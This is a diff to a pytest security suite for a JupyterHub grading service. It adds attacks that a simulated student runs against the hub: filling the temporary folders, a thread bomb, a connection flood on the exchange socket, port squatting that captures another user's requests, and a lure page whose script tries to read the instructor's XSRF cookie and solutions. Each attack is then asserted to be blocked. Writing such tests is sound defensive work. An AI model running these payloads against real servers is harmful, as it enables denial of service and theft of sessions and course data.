@@ -59,6 +59,7 @@ import uuid
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from types import SimpleNamespace
+from urllib.parse import urlparse
 
 import nbformat
 import pytest
@@ -76,6 +77,9 @@ HUB_CONFIG = ROOT / "grading" / "hub" / "jupyterhub_config.py"
 BIN = Path(sys.executable).parent
 LAB = "LM10-L2"
 MARK = "made by tests/test_jupyterhub.py"  # the comment field of every account the test makes
+# The hub's public name (LM10_HUB_URL), each server on a subdomain of it: every name under it is
+# this machine's loopback, for the test's clients (`loopback_names`) and its browser.
+DOMAIN = "lm10.test"
 
 
 def config_names():
@@ -116,6 +120,24 @@ c.JupyterHub.services = [
     *c.JupyterHub.services,
     {{"name": "course-driver", "api_token": {token!r}}},
 ]
+# The test's hand on the race for a server's port: the next start of the user named in the pin
+# file ("name port") uses that port, as if the hub had drawn it.
+_prepare_server = c.Spawner.pre_spawn_hook
+
+
+def _pinned(spawner):
+    _prepare_server(spawner)
+    import pathlib
+
+    pin = pathlib.Path({pin!r})
+    if pin.exists():
+        name, port = pin.read_text().split()
+        if name == spawner.user.name:
+            spawner.port = int(port)
+            pin.unlink()
+
+
+c.Spawner.pre_spawn_hook = _pinned
 c.JupyterHub.load_roles = [
     *c.JupyterHub.load_roles,
     {{
@@ -123,7 +145,7 @@ c.JupyterHub.load_roles = [
         "services": ["course-driver"],
         "scopes": [
             "admin:users", "admin:servers", "admin:server_state", "access:servers", "tokens",
-            "access:services",
+            "access:services", "proxy",
         ],
     }},
 ]
@@ -296,6 +318,184 @@ class UnfixedCollect(ThroughTheSocket, ngshare_exchange.ExchangeCollect):
 sys.argv[0] = "nbgrader"
 main()
 """
+# Shared limits. The sandbox's /tmp, /var/tmp and /dev/shm, each capped for the test (its
+# LM10_SANDBOX_TMPFS_MIB); she writes four times that into each.
+TMPFS_MIB = 128
+MAX_TASKS = 1000  # the most processes and threads a student may have (LM10_STUDENT_MAX_TASKS)
+FILL_TMPFS = r"""
+import errno, json, os
+found = {}
+chunk = bytes(1 << 20)
+for top in ("/tmp", "/var/tmp", "/dev/shm"):
+    path, written, why = os.path.join(top, "fill"), 0, None
+    try:
+        with open(path, "wb") as handle:
+            while written < (4 * MIB) << 20:
+                handle.write(chunk)
+                handle.flush()
+                written += len(chunk)
+    except OSError as error:
+        why = errno.errorcode.get(error.errno, str(error))
+    if os.path.exists(path):
+        os.remove(path)
+    found[top] = [written >> 20, why]
+print(json.dumps(found))
+""".replace("MIB", str(TMPFS_MIB))
+# A thread bomb (threads count as processes against a user's limit, and cost little here): as
+# many as she can start, up to 3,000, held until released.
+TASK_BOMB = r"""
+import json, threading
+threading.stack_size(64 * 1024)
+released = threading.Event()
+held, refused = [], None
+while len(held) < 3000:
+    thread = threading.Thread(target=released.wait, daemon=True)
+    try:
+        thread.start()
+    except RuntimeError as error:
+        refused = str(error)
+        break
+    held.append(thread)
+print(json.dumps({"threads": len(held), "refused": refused}))
+"""
+RELEASE_TASKS = "released.set()\nprint(0)\n"
+START_SOME = r"""
+import json, subprocess, threading
+try:
+    threads = [threading.Thread(target=lambda: None) for _ in range(50)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    done = subprocess.run(["true"]).returncode == 0
+except (RuntimeError, OSError) as error:
+    done = str(error)
+print(json.dumps(done))
+"""
+# The exchange's connections: two processes, each with as many connections to its socket as
+# her file limit allows, held open.
+FLOOD_EXCHANGE = r"""
+import json, subprocess, sys
+code = '''
+import resource, socket, time
+soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+held, progress = [], time.monotonic()
+while len(held) < min(hard - 50, 30000) and time.monotonic() - progress < 3:
+    s = socket.socket(socket.AF_UNIX)
+    s.setblocking(False)
+    try:
+        s.connect(SOCKET)
+    except BlockingIOError:  # its queue is full: again, until it has not moved for 3 s
+        s.close()
+        time.sleep(0.005)
+        continue
+    except OSError:
+        break
+    held.append(s)
+    progress = time.monotonic()
+print(len(held), flush=True)
+time.sleep(900)
+'''.replace("SOCKET", repr(SOCKET))
+flooders = [
+    subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True)
+    for _ in range(2)
+]
+print(json.dumps([int(f.stdout.readline() or 0) for f in flooders]))
+"""
+STOP_FLOOD = "for f in flooders:\n    f.kill()\n    f.wait()\nprint(0)\n"
+# A server's port: the ports others listen on; after a server stops, hers on every one that came
+# free, answering as a server would and keeping what each request carried.
+OTHERS_PORTS = r"""
+import json, os
+def listening():
+    found = set()
+    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
+        for row in open(table).read().splitlines()[1:]:
+            fields = row.split()
+            if fields[3] == "0A" and int(fields[7]) != os.getuid():
+                found.add(int(fields[1].rsplit(":", 1)[1], 16))
+    return found
+others = listening()
+print(json.dumps(sorted(others)))
+"""
+SQUAT = r"""
+import json, socket, threading
+heard = []
+def serve(sock):
+    while True:
+        conn, _ = sock.accept()
+        conn.settimeout(5)
+        try:
+            heard.append(conn.recv(65536).decode("latin-1"))
+            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
+                         b"Content-Length: 2\r\nConnection: close\r\n\r\n{}")
+        except OSError:
+            pass
+        conn.close()
+taken = []
+for port in sorted(others - listening()):
+    sock = socket.socket()
+    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    try:
+        sock.bind(("127.0.0.1", port))
+        sock.listen(64)
+    except OSError:
+        sock.close()
+        continue
+    taken.append(port)
+    threading.Thread(target=serve, args=(sock,), daemon=True).start()
+print(json.dumps(taken))
+"""
+HEARD = "print(json.dumps([h[:400] for h in heard if 'lm10-alice' in h]))\n"
+# Her own server, configured from her home (~/.jupyter), serves a page to anyone, without a
+# login: the instructor opens it (a link in a message, in a notebook) and its script reaches for
+# the instructor's server with the instructor's cookies. Where every server shares the hub's
+# origin, it reads the instructor's JupyterLab page and, with its XSRF token, her course.
+LURE_PAGE = """<!doctype html><html><head><title>waiting</title></head><body>
+<button id="go">Open my notebook</button><script>
+const target = TARGET;
+function say(verdict) { document.title = verdict.slice(0, 300); }
+document.getElementById("go").onclick = () => {
+  // JupyterHub's servers refuse to be framed (frame-ancestors 'none'): a window, then
+  const opened = window.open(target + "lab");
+  const since = Date.now();
+  const look = async () => {
+    try {
+      const doc = opened.document;  // a SecurityError once it holds another origin's page
+      const xsrf = (doc.cookie.match(/(?:^|; )_xsrf=([^;]+)/) || [])[1];
+      if (xsrf && doc.location.pathname.includes("/lab")) {
+        const r = await fetch(target + "api/contents/solutions",
+                              {headers: {"X-XSRFToken": decodeURIComponent(xsrf)}});
+        return say("READ " + r.status + " " + (await r.text()).slice(0, 200));
+      }
+    } catch (e) {
+      return say("BLOCKED " + e.name + ": " + e.message);
+    }
+    if (Date.now() - since > 60000) return say("BLOCKED: nothing of hers after 60 s");
+    setTimeout(look, 250);
+  };
+  look();
+};
+</script></body></html>"""
+LURE_CONFIG = r'''
+import sys, types
+code = """
+from tornado import web
+from jupyter_server.utils import url_path_join
+class Lure(web.RequestHandler):
+    def get(self):
+        self.set_header("Content-Type", "text/html")
+        self.write(PAGE)
+def _load_jupyter_server_extension(app):
+    app.web_app.add_handlers(".*$", [(url_path_join(app.base_url, "lm10-lure"), Lure)])
+"""
+module = types.ModuleType("lm10_lure")
+module.PAGE = PAGE_TEXT
+exec(code, module.__dict__)
+sys.modules["lm10_lure"] = module
+c.ServerApp.jpserver_extensions.update({"lm10_lure": True})
+'''
 # File names that write to the instructor's terminal (clear the screen, set its title, forge a
 # line), or read other than they are (bidi override, zero width, a new line).
 HOSTILE_NAMES = [
@@ -305,6 +505,9 @@ HOSTILE_NAMES = [
     "\u200bLM10-L2.ipynb",
     "tab\there.ipynb",
 ]
+
+
+CHROMIUM = Path("/usr/bin/chromium")  # Debian's, as tests/test_browser.py drives it
 
 
 def proxy_command():
@@ -325,6 +528,8 @@ def hub_installed():
         ("bubblewrap (apt-get install bubblewrap)", shutil.which("bwrap")),
         ("useradd (Debian's passwd)", shutil.which("useradd")),
         ("setfacl (apt-get install acl)", shutil.which("setfacl") or not closed_folders()),
+        ("chromium (apt-get install chromium)", CHROMIUM.exists()),
+        ("playwright (make setup)", importlib.util.find_spec("playwright")),
     )
     missing = [what for what, found in needs if not found]
     if missing:
@@ -371,6 +576,13 @@ def listening_ports(uid):
             if fields[3] == "0A" and int(fields[7]) == uid:
                 ports.append(int(fields[1].rsplit(":", 1)[1], 16))
     return ports
+
+
+def descriptors(pid):
+    """(open file descriptors, their soft limit) of process `pid`, seen from the host."""
+    limits = Path(f"/proc/{pid}/limits").read_text()
+    soft = re.search(r"Max open files\s+(\d+)", limits)[1]
+    return len(os.listdir(f"/proc/{pid}/fd")), int(soft)
 
 
 def kill_processes_of(uid):
@@ -551,14 +763,23 @@ def wait_for(what, check, seconds):
 class Hub:
     def __init__(self, url, socket_path, process, log):
         self.url, self.socket, self.process, self.log = url, socket_path, process, log
+        self.subdomains = "subdomain_host" in HUB_CONFIG.read_text()
         self.session = requests.Session()
         self.session.headers["Authorization"] = f"token {TOKEN}"
         self.exchange = requests.Session()  # the exchange's socket, as servers reach it
         self.exchange.trust_env = False
         self.exchange.mount("http://", SocketAdapter(str(socket_path)))
 
+    def url_of(self, path):
+        """The address of `path` on the hub: a user's server on its own subdomain where the hub
+        gives each server one (JupyterHub.subdomain_host)."""
+        found = re.match(r"/user/([^/]+)/", path)
+        if found and self.subdomains:
+            return self.url.replace("//", f"//{found[1]}.", 1) + path
+        return self.url + path
+
     def call(self, method, path, ok=True, **kwargs):
-        response = self.session.request(method, self.url + path, timeout=900, **kwargs)
+        response = self.session.request(method, self.url_of(path), timeout=900, **kwargs)
         if ok:
             assert response.status_code < 400, (
                 method,
@@ -631,7 +852,7 @@ class Hub:
         return asyncio.run(self._execute(user, kernel, code, timeout))
 
     async def _execute(self, user, kernel, code, timeout):
-        url = self.url.replace("http", "ws", 1) + f"/user/{user}/api/kernels/{kernel}/channels"
+        url = self.url_of(f"/user/{user}/api/kernels/{kernel}/channels").replace("http", "ws", 1)
         request = HTTPRequest(url, headers={"Authorization": f"token {TOKEN}"})
         socket_ = await asyncio.wait_for(websocket_connect(request), 60)
         msg_id, out, error, replied, idle = uuid.uuid4().hex, [], None, False, False
@@ -693,6 +914,36 @@ def exchange_module():
     return exchange
 
 
+def open_as_instructor(hub, password, url):
+    """The instructor logs in to the hub in Chromium, opens her own server, then `url`; the
+    title the page ends with (its script writes what it could reach there)."""
+    from playwright.sync_api import sync_playwright
+
+    rules = f"MAP *.{DOMAIN} 127.0.0.1, MAP {DOMAIN} 127.0.0.1"
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(
+            executable_path=str(CHROMIUM),
+            args=["--no-sandbox", "--disable-gpu", f"--host-resolver-rules={rules}"],
+        )
+        try:
+            page = browser.new_page()
+            page.goto(f"{hub.url}/hub/login", timeout=120_000)
+            page.fill("#username_input", INSTRUCTOR)
+            page.fill("#password_input", password)
+            page.click("#login_submit")
+            page.wait_for_url(re.compile(r".*/user/.*"), timeout=120_000)
+            page.goto(hub.url_of(f"/user/{INSTRUCTOR}/lab"), timeout=120_000)
+            page.goto(url, timeout=120_000)
+            page.click("#go")
+            page.wait_for_function(
+                "document.title.startsWith('READ') || document.title.startsWith('BLOCKED')",
+                timeout=120_000,
+            )
+            return page.title()
+        finally:
+            browser.close()
+
+
 def login(url, user, password):
     """Log in through the hub's form, as a browser does; the hub's answer."""
     with requests.Session() as browser:
@@ -706,7 +957,25 @@ def login(url, user, password):
 
 
 @pytest.fixture(scope="module")
-def hub(machine, tmp_path_factory):
+def loopback_names():
+    """DOMAIN and every name under it resolve to 127.0.0.1 in this process (requests, tornado),
+    as wildcard DNS would make them resolve to the hub's machine."""
+    real = socket.getaddrinfo
+
+    def resolve(host, *args, **kwargs):
+        if isinstance(host, str) and (host == DOMAIN or host.endswith("." + DOMAIN)):
+            host = "127.0.0.1"
+        return real(host, *args, **kwargs)
+
+    socket.getaddrinfo = resolve
+    try:
+        yield
+    finally:
+        socket.getaddrinfo = real
+
+
+@pytest.fixture(scope="module")
+def hub(machine, loopback_names, tmp_path_factory):
     state = machine.base / "state"
     port, hub_port, proxy_port = free_ports(3)
     assert HUB_CONFIG.is_file()  # load_subconfig passes over a missing file silently
@@ -718,6 +987,7 @@ def hub(machine, tmp_path_factory):
             hub_port=hub_port,
             proxy_port=proxy_port,
             token=TOKEN,
+            pin=str(machine.base / "pin"),
         )
     )
     os.chmod(driver, 0o600)
@@ -728,6 +998,9 @@ def hub(machine, tmp_path_factory):
         LM10_NGSHARE_MAX_REQUEST_MIB="1",  # the exchange's limits, small for the test
         LM10_NGSHARE_QUOTA_MIB="2",
         LM10_NGSHARE_MAX_FILES="300",
+        LM10_HUB_URL=f"http://{DOMAIN}:{port}",
+        LM10_SANDBOX_TMPFS_MIB=str(TMPFS_MIB),
+        LM10_STUDENT_MAX_TASKS=str(MAX_TASKS),
     )
     log = open(tmp_path_factory.mktemp("hub") / "hub.log", "w+")  # noqa: SIM115 (while it runs)
     process = subprocess.Popen(
@@ -738,7 +1011,8 @@ def hub(machine, tmp_path_factory):
         stderr=subprocess.STDOUT,
         start_new_session=True,
     )
-    hub = Hub(f"http://127.0.0.1:{port}", state / "exchange" / "ngshare.sock", process, log)
+    hub = Hub(f"http://{DOMAIN}:{port}", state / "exchange" / "ngshare.sock", process, log)
+    hub.pin = machine.base / "pin"
     try:
         wait_for("the hub", lambda: requests.get(f"{hub.url}/hub/api", timeout=5).ok, 180)
         wait_for("ngshare", lambda: hub.ngshare(None, "GET", "/healthz", timeout=5).ok, 120)
@@ -795,6 +1069,7 @@ def played(hub, machine):
         hub.url, "lm10-alice", machine.passwords[ATTACKER]
     )
 
+    out["hub log at start"] = Path(hub.log.name).read_text()[:20000]
     hub.start_servers(PEOPLE)
     env = {user: hub.environment(user) for user in PEOPLE}
     token = {user: env[user]["LM10_EXCHANGE_TOKEN"] for user in PEOPLE}  # the exchange's
@@ -1104,13 +1379,13 @@ def played(hub, machine):
     }
     out["reading through the hub"] = {
         "alice's files": requests.get(
-            f"{hub.url}/user/lm10-alice/api/contents/{LAB}",
+            hub.url_of(f"/user/lm10-alice/api/contents/{LAB}"),
             headers={"Authorization": f"token {mine}"},
             timeout=60,
             allow_redirects=False,
         ).status_code,
         "the instructor's formgrader": requests.get(
-            f"{hub.url}/user/{INSTRUCTOR}/formgrader/api/submissions/{LAB}",
+            hub.url_of(f"/user/{INSTRUCTOR}/formgrader/api/submissions/{LAB}"),
             headers={"Authorization": f"token {mine}"},
             timeout=60,
             allow_redirects=False,
@@ -1223,13 +1498,13 @@ def played(hub, machine):
     ).json()["scopes"]
     out["exchange token on the instructor's server"] = {
         "list her course": requests.get(
-            f"{hub.url}/user/{INSTRUCTOR}/api/contents",
+            hub.url_of(f"/user/{INSTRUCTOR}/api/contents"),
             headers=as_them,
             timeout=60,
             allow_redirects=False,
         ).status_code,
         "open a terminal": requests.post(
-            f"{hub.url}/user/{INSTRUCTOR}/api/terminals",
+            hub.url_of(f"/user/{INSTRUCTOR}/api/terminals"),
             headers=as_them,
             timeout=60,
             allow_redirects=False,
@@ -1280,6 +1555,33 @@ def played(hub, machine):
     out["empty files with long names"] = post_names([f"{n:03d}" + "n" * 200 for n in range(250)])
     out["hostile names"] = {name: post_names([name]) for name in HOSTILE_NAMES}
 
+    # 8i. Shared limits, from her kernel: the sandbox's temporary folders filled; a thread bomb
+    # held while alice starts threads and a process; the exchange's socket flooded with
+    # connections while alice asks it for her submissions.
+    out["filled temporary folders"] = attack(FILL_TMPFS)
+    out["thread bomb"] = attack(TASK_BOMB)
+    out["alice starts threads during the bomb"] = attack(START_SOME, "lm10-alice")
+    attack(RELEASE_TASKS)
+    ask = f"/submissions/{COURSE_ID}/{LAB}/lm10-alice"
+    exchange_pid = min(
+        int(p.name)
+        for p in Path("/proc").iterdir()
+        if p.name.isdigit() and p.stat().st_uid == account(NGSHARE_USER).pw_uid
+    )
+    out["exchange's descriptors before the flood"] = descriptors(exchange_pid)
+    out["flood"] = attack(FLOOD_EXCHANGE.replace("SOCKET", repr(str(hub.socket))))
+    out["exchange's descriptors during the flood"] = descriptors(exchange_pid)
+    since = time.monotonic()
+    try:
+        answer = hub.ngshare(token["lm10-alice"], "GET", ask, timeout=20).status_code
+    except requests.RequestException as error:
+        answer = f"no answer: {type(error).__name__}"
+    out["alice's exchange during the flood"] = (answer, round(time.monotonic() - since, 1))
+    attack(STOP_FLOOD)
+    out["alice's exchange after the flood"] = hub.ngshare(
+        token["lm10-alice"], "GET", ask
+    ).status_code
+
     # 8h. A process of hers that outlives her server, holding on (signals ignored, its own
     # session) and trying for the exchange's address; then her server stops.
     out["daemon started"] = attack(DAEMON.replace("SOCKET", repr(str(sock))))
@@ -1307,6 +1609,71 @@ def played(hub, machine):
             break
         time.sleep(0.25)
     out["her stopped server's exchange token"] = lasted  # None: still works after 30 s
+
+    # 9. The hub's origin: her own server, configured from her home, serves a page to anyone;
+    # the instructor, logged in to the hub, opens it in a browser.
+    target = hub.url_of(f"/user/{INSTRUCTOR}/")
+    page = LURE_PAGE.replace("TARGET", json.dumps(target))
+    lure_config = LURE_CONFIG.replace("PAGE_TEXT", repr(page))
+    as_user(
+        ATTACKER,
+        [
+            sys.executable,
+            "-c",
+            "import os, sys; os.makedirs('.jupyter', exist_ok=True); "
+            "open('.jupyter/jupyter_server_config.py', 'w').write(sys.argv[1])",
+            lure_config,
+        ],
+        env[ATTACKER],
+        home[ATTACKER],
+    )
+    hub.start_servers([ATTACKER])
+    lure = hub.url_of(f"/user/{ATTACKER}/lm10-lure")
+    served = requests.get(lure, timeout=60, allow_redirects=False)  # no login, no token
+    out["her page, without a login"] = (served.status_code, "window.open" in served.text)
+    out["the instructor opens her page"] = open_as_instructor(
+        hub, machine.passwords[INSTRUCTOR], lure
+    )
+
+    # 10. A server's port: she notes the ports others listen on; alice's server stops; she
+    # listens on every port that came free. Alice starts again: on a port the hub draws, and
+    # once on her old one (the test's pin: the race's outcome, or JupyterHub 5's own reuse of
+    # a spawner's port); each time a request goes to alice's server, as her browser's would.
+    kernel[ATTACKER] = hub.start_kernel(ATTACKER)
+    out["ports of others"] = attack(OTHERS_PORTS)
+    alice_port = next(
+        urlparse(route["target"]).port
+        for route in hub.call("GET", "/hub/api/proxy").json().values()
+        if route["data"].get("user") == "lm10-alice"
+    )
+    hub.stop_server("lm10-alice")
+    out["squatted"] = attack(SQUAT)
+    out["alice's old port"] = alice_port
+
+    def alice_starts():
+        hub.call("POST", "/hub/api/users/lm10-alice/server", ok=False)
+        wait_for(
+            "alice's server to start or fail",
+            lambda: (hub.model("lm10-alice")["servers"].get("") or {"ready": True})["ready"],
+            300,
+        )
+        started = bool(hub.model("lm10-alice")["servers"])
+        sent = requests.get(
+            hub.url_of("/user/lm10-alice/api/contents"),
+            headers={"Authorization": f"token {TOKEN}"},
+            timeout=60,
+            allow_redirects=False,
+        ).status_code
+        ports = listening_ports(uid["lm10-alice"])
+        if started:
+            hub.stop_server("lm10-alice")
+        return {"started": started, "answer": sent, "her listeners": ports}
+
+    out["alice starts again"] = alice_starts()
+    hub.pin.write_text(f"lm10-alice {alice_port}")
+    out["alice starts on her old port"] = alice_starts()
+    out["heard by mallory"] = attack(HEARD)
+    out["hub log"] = hub.tail()
     return out
 
 
@@ -1555,3 +1922,53 @@ def test_collect_prints_names_escaped():
         assert str(refused.value).isascii() and str(refused.value).isprintable()
     kept, dropped = exchange.checked_files([{"path": "timestamp.txt/x", "content": ""}], 10)
     assert kept == {} and dropped == ["timestamp.txt/x"]
+
+
+# --- shared limits, the hub's origin, a server's port ---
+
+
+def test_no_one_fills_the_machines_memory_through_temporary_folders(played):
+    for top, (written, why) in played["filled temporary folders"].items():
+        assert why == "ENOSPC" and written <= TMPFS_MIB, (top, written, why)
+
+
+def test_no_one_takes_every_process_of_the_machine(played):
+    bomb = played["thread bomb"]
+    assert bomb["refused"] and bomb["threads"] < MAX_TASKS, bomb
+    assert played["alice starts threads during the bomb"] is True
+
+
+def test_no_one_floods_the_exchange_with_connections(played):
+    assert sum(played["flood"]) > 1000, played["flood"]  # she connected that many times
+    before, limit = played["exchange's descriptors before the flood"]
+    during, _ = played["exchange's descriptors during the flood"]
+    # it keeps 16 of hers open (--connections-per-user), whatever she opens
+    assert during - before <= 16, (before, during, limit, played["flood"])
+    status, seconds = played["alice's exchange during the flood"]
+    assert status == 200 and seconds < 10, (status, seconds)
+    assert played["alice's exchange after the flood"] == 200
+
+
+def test_no_students_page_reaches_the_instructors_server(played):
+    status, is_hers = played["her page, without a login"]
+    assert status == 200 and is_hers  # her server is hers: it serves what she likes, to anyone
+    verdict = played["the instructor opens her page"]
+    assert verdict.startswith("BLOCKED"), verdict
+
+
+def test_no_one_answers_for_anothers_server(played):
+    assert played["alice's old port"] in played["squatted"], played["squatted"]
+    again = played["alice starts again"]
+    assert again["started"] and again["answer"] == 200, again  # a port of her own
+    pinned = played["alice starts on her old port"]
+    assert not pinned["started"], pinned  # the hub would not route to mallory's listener
+    assert played["heard by mallory"] == [], played["heard by mallory"]
+    assert "listens on port" in played["hub log"], played["hub log"][-3000:]
+
+
+def test_what_one_machine_does_not_bound_is_flagged(played):
+    log = played["hub log at start"]
+    assert "NOT BOUNDED on this machine: memory" in log, log[-3000:]
+    mounts = Path("/proc/self/mountinfo").read_text()
+    if not any(q in mounts for q in ("usrquota", "usrjquota", "prjquota", "uquota")):
+        assert "NOT BOUNDED on this machine: disk: no user quota" in log, log[-3000:]
